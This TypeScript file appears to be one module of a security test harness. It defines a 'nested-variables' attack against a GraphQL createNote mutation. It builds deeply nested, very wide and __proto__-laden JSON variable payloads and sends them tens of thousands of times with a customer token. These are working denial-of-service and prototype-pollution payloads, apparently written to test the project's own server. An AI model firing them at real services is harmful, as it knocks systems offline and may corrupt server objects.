import type { Attack } from '../../attack.ts';

const LEVELS = 100_000;
const query = 'mutation ($input: CreateNoteInput!) { createNote(input: $input) { __typename } }';
const bodies: readonly string[] = [
  `{"query":${JSON.stringify(query)},"variables":{"input":${'['.repeat(LEVELS)}${']'.repeat(LEVELS)}}}`,
  `{"query":${JSON.stringify(query)},"variables":${'{"input":'.repeat(LEVELS / 5)}1${'}'.repeat(LEVELS / 5)}}`,
  `{"query":${JSON.stringify(query)},"variables":{"input":{${Array.from({ length: LEVELS / 2 }, (_, n) => `"a${n}":0`).join()}}}}`,
  `{"query":${JSON.stringify(query)},"variables":{"__proto__":${'[{"constructor":'.repeat(1_000)}1${'}]'.repeat(1_000)}}}`,
];

export const nestedVariables: Attack = {
  name: 'nested-variables',
  description: `sends variables of ${LEVELS.toLocaleString('en')} levels, or with 50,000 names`,
  run: async (attacker) => {
    const { token } = await attacker.customer();
    await attacker.repeat(16, 10_000, (nth) => attacker.send(bodies[nth % bodies.length] as string, token));
  },
};
